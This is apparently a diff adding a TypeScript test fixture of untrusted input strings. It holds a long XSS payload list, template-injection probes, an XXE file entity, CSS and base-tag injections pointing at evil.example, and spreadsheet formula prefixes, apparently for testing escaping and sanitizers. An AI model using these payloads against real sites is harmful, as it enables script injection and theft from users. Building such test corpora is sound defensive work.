@@ -1,0 +1,201 @@
+/** Text that some program may run, or take for its own marks, where it is not escaped for the place it stands in. */
+const call = 'alert(1)';
+const events = [
+	'error',
+	'load',
+	'click',
+	'focus',
+	'mouseover',
+	'pointerenter',
+	'animationend',
+	'toggle',
+	'begin',
+	'scroll'
+];
+const breakouts = [
+	'"',
+	"'",
+	'">',
+	"'>",
+	'"/>',
+	'-->',
+	']]>',
+	'</title>',
+	'</textarea>',
+	'</style>',
+	'</script>',
+	'</svg>'
+];
+const closings = [
+	'script',
+	'style',
+	'title',
+	'textarea',
+	'noscript',
+	'template',
+	'iframe',
+	'xmp',
+	'select',
+	'body',
+	'html',
+	'svg',
+	'text',
+	'desc',
+	'p',
+	'td',
+	'figure',
+	'a'
+];
+const addresses = [
+	'javascript:',
+	'JaVaScRiPt:',
+	'java\tscript:',
+	'java&Tab;script:',
+	'&#106;avascript:',
+	' javascript:',
+	'vbscript:',
+	'data:text/html,',
+	'data:image/svg+xml,',
+	'blob:',
+	'view-source:',
+	'//evil.example/',
+	'\\\\evil.example\\'
+];
+const formulas = ['=', '+', '-', '@', '\t=', '\r=', ' =', '＝', '＋', '－', '＠', '"=', "'=", '%0A='];
+
+export const payloads: readonly string[] = [
+	...[
+		`<script>${call}</script>`,
+		`<SCRIPT>${call}</SCRIPT>`,
+		`<script/src=//evil.example></script>`,
+		`<script type=module>${call}</script>`
+	],
+	...[
+		`<scr<script>ipt>${call}</scr</script>ipt>`,
+		`<script\n>${call}</script\n>`,
+		`<script>${call}//`,
+		`<<script>${call}//<</script>`
+	],
+	...[
+		`<script>\u2028${call}\u2029</script>`,
+		`<!--<script>${call}</script>-->`,
+		`<!--><img src=x onerror=${call}>`,
+		`<!--`,
+		`--!><b>`
+	],
+	...events.map((event) => `<img src=x on${event}=${call}>`),
+	...events.map((event) => `<svg/on${event}=${call}>`),
+	...events.map((event) => `x" on${event}="${call}`),
+	...events.slice(0, 6).map((event) => `x' on${event}='${call}`),
+	...events.slice(0, 4).map((event) => `x on${event}=${call} y`),
+	...breakouts.map((end) => `${end}<img src=x onerror=${call}>`),
+	...breakouts.map((end) => `${end}<script>${call}</script>`),
+	...closings.map((name) => `</${name}><b>out of ${name}</b>`),
+	...addresses.map((address) => `${address}${call}`),
+	...addresses.slice(0, 8).map((address) => `<a href="${address}${call}">x</a>`),
+	...addresses.slice(0, 6).map((address) => `[x](${address}${call})`),
+	...[
+		`![x](x"onerror="${call})`,
+		`[x]: javascript:${call}`,
+		`<javascript:${call}>`,
+		'`<b>`',
+		'**x** _y_ ~~z~~',
+		'# x\n> y'
+	],
+	...[
+		'{{7*7}}',
+		'{{constructor.constructor}}',
+		'${7*7}',
+		'#{7*7}',
+		'<%= 7*7 %>',
+		'{% raw %}',
+		'{@html x}',
+		'{#if x}',
+		'[[7*7]]',
+		'<?php x ?>',
+		'$& $1 $$',
+		'%s%n %00',
+		'{{{7}}}',
+		'{7*7}'
+	],
+	...[
+		'&lt;b&gt;',
+		'&#60;b&#62;',
+		'&#x3c;b&#x3e;',
+		'&amp;lt;b&amp;gt;',
+		'&lt',
+		'&quot;',
+		'&apos;x&#39;',
+		'&nbsp;',
+		'&#0;',
+		'&xxe;',
+		'&NewLine;',
+		'&colon;',
+		'&#',
+		'&&&',
+		'&copy',
+		'&#x110000;'
+	],
+	...[
+		'<![CDATA[x]]>',
+		']]>',
+		']]><b/>',
+		'<!DOCTYPE x [<!ENTITY y SYSTEM "file:///z">]>',
+		'<?xml version="1.0"?>',
+		'<?xpacket end="w"?>',
+		'<x:y xmlns:x="z"/>',
+		'<rdf:li>x</rdf:li>',
+		'<metadata>x</metadata>',
+		'<use href="data:x"/>',
+		'<foreignObject><b>x</b></foreignObject>',
+		'<animate attributeName=href to=x>'
+	],
+	...[
+		'\u2028',
+		'\u2029',
+		'x\u2028y',
+		`";${call};//`,
+		`';${call};//`,
+		'\\";x',
+		'\\u003cscript\\u003e',
+		'"}]}</script><b>',
+		'"@type":"x"',
+		'","@graph":[],"x":"',
+		'\\',
+		'\\\\',
+		'\\n',
+		'/*',
+		'*/',
+		'//'
+	],
+	...[
+		`<style>*{x:y}</style>`,
+		`<p style="x:expression(${call})">`,
+		'<link rel=stylesheet href=//evil.example>',
+		'@import "//evil.example"',
+		'url(//evil.example)',
+		'}*{color:red}',
+		'<base href=//evil.example/>',
+		'<meta http-equiv=refresh content=0>'
+	],
+	...[
+		'<iframe srcdoc="<b>x</b>"></iframe>',
+		'<object data=x>',
+		'<embed src=x>',
+		`<form action=x><button>y</button></form>`,
+		`<input autofocus onfocus=${call}>`,
+		`<details open ontoggle=${call}>`,
+		'<math><mtext><b>',
+		'<template><b>x</b></template>',
+		'<a href=x target=_blank>y</a>',
+		'<noscript><b title="</noscript><b>">',
+		'<plaintext>',
+		'<x-y></x-y>',
+		'<b',
+		'<',
+		'>',
+		'</',
+		'<a href="'
+	],
+	...formulas.map((sign) => `${sign}HYPERLINK("x")`)
+];
